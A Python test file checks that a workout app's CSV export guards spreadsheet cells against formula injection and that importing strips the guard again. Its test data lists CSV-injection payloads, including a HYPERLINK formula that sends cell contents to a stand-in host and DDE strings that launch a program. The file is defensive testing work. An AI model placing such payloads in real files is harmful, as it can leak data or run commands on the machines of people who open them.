"""What leaves as CSV runs in no spreadsheet, and comes back as it was."""

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from apex_client.importers import read_export
from apex_sync.csv_cells import guarded, unguarded, write_rows
from tests.client.apex_command import Terminal

FORMULAS = [
    '=HYPERLINK("https://evil.example?"&A1,"see")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",  # noqa: RUF001
    "|calc",
    "'=1+1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_is_text(formula: str) -> None:
    assert guarded(formula) == f"'{formula}"


@given(st.text(alphabet=st.sampled_from("'=+-@\t\r\n |%＝a1 \x00"), max_size=8) | st.text())  # noqa: RUF001
def test_whatever_is_written_comes_back(text: str) -> None:
    assert unguarded(guarded(text)) == text
    assert not guarded(text).startswith(("=", "+", "-", "@", "\t", "\r", "|", "%"))


@given(st.integers() | st.floats(allow_nan=False) | st.none())
def test_numbers_stay_numbers(value: float | None) -> None:
    assert guarded(value) is value


def test_rows_are_guarded_in_every_cell_and_header() -> None:
    file = io.StringIO()
    assert write_rows(file, [{"=name": '=1,"+1"\n', "load": -5.0}, {"=name": "Bench", "load": None}]) == 2
    assert list(csv.reader(io.StringIO(file.getvalue()))) == [
        ["'=name", "load"],
        ['\'=1,"+1"\n', "-5.0"],
        ["Bench", ""],
    ]


@pytest.mark.parametrize("command", [("export", "--format", "csv"), ("query", "--csv")])
def test_the_command_line_writes_no_formula(tmp_path: Path, command: tuple[str, ...]) -> None:
    apex = Terminal(tmp_path)
    apex("log", "set", "=1+1 Press", "8x100kg@8", "--new").ok()
    sql = ("SELECT exercise_name, load_kg FROM logged_sets",) if command[0] == "query" else ()
    written = apex(*command, *sql).ok().out
    assert "'=1+1 Press" in written and ",=1" not in written and "\n=" not in written


def test_an_import_takes_the_guard_away() -> None:
    export = (
        "Date,Workout Name,Duration,Exercise Name,Set Order,Weight,Reps,Distance,Seconds,Notes,Workout Notes,RPE\n"
        "2026-01-05 18:00:00,Push,1h,'=Bench,1,100,8,0,0,'- felt good,,8\n"
    )
    (workout,) = read_export(export.encode(), unit="kg").workouts
    (exercise,) = workout.patch["exercises"].values()
    assert (exercise["name"], exercise["notes"]) == ("=Bench", "- felt good")
